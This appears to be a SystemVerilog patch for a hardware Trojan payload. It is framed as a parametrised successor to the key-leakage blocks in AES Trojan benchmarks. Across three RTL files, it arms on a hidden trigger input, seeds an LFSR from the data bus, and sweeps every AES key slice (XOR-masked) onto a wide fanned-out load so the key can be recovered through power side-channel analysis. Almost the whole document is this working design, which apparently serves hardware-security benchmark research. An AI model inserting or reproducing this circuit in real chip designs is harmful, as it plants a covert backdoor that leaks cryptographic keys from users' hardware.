tsc_leak_sweep: RTL

- Parametrised successor to the trigger-activated key-leakage payload used in the AES Trojan benchmarks.
- Arms on a trigger rising edge and seeds an LFSR from the data bus.
- Sweeps the entire key slice by slice instead of leaking one fixed byte. Each key bit XOR LFSR bit is fanned out onto a wide registered load for power side-channel observation.
- Sits beside the AES core; key/data come from the core inputs, load drives a dummy capacitive net.

---
 rtl/tsc_pkg.sv | 34 +++
 rtl/tsc_lfsr.sv | 41 ++++
 rtl/tsc_leak_sweep.sv | 143 ++++++++++++++
 3 files changed

// File: rtl/tsc_pkg.sv
// Shared types and constants for the key-sweep leakage block.
// Latency: n/a (package only).
// Backpressure: n/a (package only).
package tsc_pkg;

    typedef enum logic [1:0] {
        IDLE = 2'd0,
        SEED = 2'd1,
        LEAK = 2'd2,
        DONE = 2'd3
    } tsc_state_e;

    // Maximal-length Fibonacci feedback masks, bit i = tap on stage i+1
    localparam logic [15:0] TAPS_16 = 16'hB400;      // x^16+x^14+x^13+x^11+1
    localparam logic [19:0] TAPS_20 = 20'h90000;     // x^20+x^17+1
    localparam logic [31:0] TAPS_32 = 32'h8020_0003; // x^32+x^22+x^2+x+1

    function automatic logic [31:0] default_taps(input int w);
        case (w)
            16:      return 32'(TAPS_16);
            32:      return TAPS_32;
            default: return 32'(TAPS_20);
        endcase
    endfunction

    function automatic int clog2(input int n);
        int r = 0;
        for (int i = 0; i < 31; i++) begin
            if ((1 << i) < n) r = i + 1;
        end
        return r;
    endfunction

endpackage

// File: rtl/tsc_lfsr.sv
// Fibonacci LFSR, shifts left with XOR-reduced feedback into bit 0; loads a seed on demand.
// Latency: seed or shifted value visible on q one cycle after load_seed/en.
// Backpressure: none; en simply holds the state when low.
module tsc_lfsr
    import tsc_pkg::*;
#(
    parameter int                LFSR_W = 20,
    parameter logic [LFSR_W-1:0] TAPS   = LFSR_W'(default_taps(LFSR_W))
) (
    input  logic              clk,
    input  logic              rst,
    input  logic [LFSR_W-1:0] seed,
    input  logic              load_seed,
    input  logic              en,
    output logic [LFSR_W-1:0] q
);

    logic [LFSR_W-1:0] lfsr_q, lfsr_d;
    logic              fb;

    assign fb = ^(lfsr_q & TAPS);

    // Next state: a zero seed would lock the register, so substitute 1
    always_comb begin
        lfsr_d = lfsr_q;
        if (load_seed) begin
            lfsr_d = (seed == '0) ? LFSR_W'(1) : seed;
        end else if (en) begin
            lfsr_d = {lfsr_q[LFSR_W-2:0], fb};
        end
    end

    // State register, resets to the non-zero value 1
    always_ff @(posedge clk or negedge rst) begin
        if (!rst) lfsr_q <= LFSR_W'(1);
        else      lfsr_q <= lfsr_d;
    end

    assign q = lfsr_q;

endmodule

// File: rtl/tsc_leak_sweep.sv
// Trigger-armed sweep that leaks every key slice, XORed with an LFSR mask, onto a wide fanned-out load.
// Latency: rise -> SEED -> LEAK; first leaked value on load two edges after the rising-edge sample.
// Backpressure: none; free-running once armed, new trigger edges ignored until back in IDLE.
module tsc_leak_sweep
    import tsc_pkg::*;
#(
    parameter int                KEY_W   = 128,
    parameter int                DATA_W  = 128,
    parameter int                LFSR_W  = 20,
    parameter logic [LFSR_W-1:0] TAPS    = LFSR_W'(default_taps(LFSR_W)),
    parameter int                SLICE_W = 8,
    parameter int                FANOUT  = 8,
    parameter int                DWELL   = 1024,
    parameter int                LOOP    = 0,
    localparam int               LOAD_W  = SLICE_W * FANOUT,
    localparam int               NSLICE  = KEY_W / SLICE_W,
    localparam int               SIDX_W  = (clog2(NSLICE) > 0) ? clog2(NSLICE) : 1
) (
    input  logic              clk,
    input  logic              rst,
    input  logic              Tj_Trig,
    input  logic [KEY_W-1:0]  key,
    input  logic [DATA_W-1:0] data,
    output logic [LOAD_W-1:0] load,
    output logic              active,
    output logic [SIDX_W-1:0] slice_idx
);

    localparam int DWELL_W = clog2(DWELL);

    tsc_state_e        state_q, state_d;
    logic              trig_q;
    logic              rise;
    logic [SIDX_W-1:0] slice_idx_q, slice_idx_d;
    logic [DWELL_W-1:0] dwell_cnt_q, dwell_cnt_d;
    logic [LOAD_W-1:0] load_q, load_d;
    logic              active_q, active_d;
    logic [LFSR_W-1:0] lfsr;
    logic              dwell_end;
    logic              last_slice;
    logic [SLICE_W-1:0] key_slice;
    logic [SLICE_W-1:0] leak_bits;

    assign rise       = Tj_Trig & ~trig_q;
    assign dwell_end  = (dwell_cnt_q == DWELL_W'(DWELL - 1));
    assign last_slice = (slice_idx_q == SIDX_W'(NSLICE - 1));
    assign key_slice  = key[int'(slice_idx_q) * SLICE_W +: SLICE_W];
    assign leak_bits  = key_slice ^ lfsr[SLICE_W-1:0];

    // Only the low LFSR_W data bits seed the mask
    generate
        if (DATA_W > LFSR_W) begin : g_data_hi
            logic unused_data_hi;
            assign unused_data_hi = ^data[DATA_W-1:LFSR_W];
        end
    endgenerate

    tsc_lfsr #(
        .LFSR_W (LFSR_W),
        .TAPS   (TAPS)
    ) u_lfsr (
        .clk       (clk),
        .rst       (rst),
        .seed      (data[LFSR_W-1:0]),
        .load_seed (state_q == SEED),
        .en        (state_q == LEAK),
        .q         (lfsr)
    );

    // Trigger history for rising-edge detection
    always_ff @(posedge clk or negedge rst) begin
        if (!rst) trig_q <= 1'b0;
        else      trig_q <= Tj_Trig;
    end

    // FSM state register
    always_ff @(posedge clk or negedge rst) begin
        if (!rst) state_q <= IDLE;
        else      state_q <= state_d;
    end

    // FSM next state: DONE only re-arms after the trigger level drops
    always_comb begin
        state_d = state_q;
        case (state_q)
            IDLE:    if (rise) state_d = SEED;
            SEED:    state_d = LEAK;
            LEAK:    if (dwell_end && last_slice && (LOOP == 0)) state_d = DONE;
            DONE:    if (!Tj_Trig) state_d = IDLE;
            default: state_d = IDLE;
        endcase
    end

    // FSM outputs: leak pattern, activity flag and slice/dwell counters
    always_comb begin
        load_d      = '0;
        active_d    = 1'b0;
        slice_idx_d = slice_idx_q;
        dwell_cnt_d = dwell_cnt_q;
        case (state_q)
            SEED: begin
                slice_idx_d = '0;
                dwell_cnt_d = '0;
            end
            LEAK: begin
                active_d = 1'b1;
                for (int s = 0; s < SLICE_W; s++) begin
                    for (int f = 0; f < FANOUT; f++) begin
                        load_d[s*FANOUT + f] = leak_bits[s];
                    end
                end
                if (dwell_end) begin
                    dwell_cnt_d = '0;
                    if (!last_slice)    slice_idx_d = slice_idx_q + 1'b1;
                    else if (LOOP != 0) slice_idx_d = '0;
                end else begin
                    dwell_cnt_d = dwell_cnt_q + 1'b1;
                end
            end
            default: ;
        endcase
    end

    // Output and counter registers; every output comes straight from a flop
    always_ff @(posedge clk or negedge rst) begin
        if (!rst) begin
            load_q      <= '0;
            active_q    <= 1'b0;
            slice_idx_q <= '0;
            dwell_cnt_q <= '0;
        end else begin
            load_q      <= load_d;
            active_q    <= active_d;
            slice_idx_q <= slice_idx_d;
            dwell_cnt_q <= dwell_cnt_d;
        end
    end

    assign load      = load_q;
    assign active    = active_q;
    assign slice_idx = slice_idx_q;

endmodule
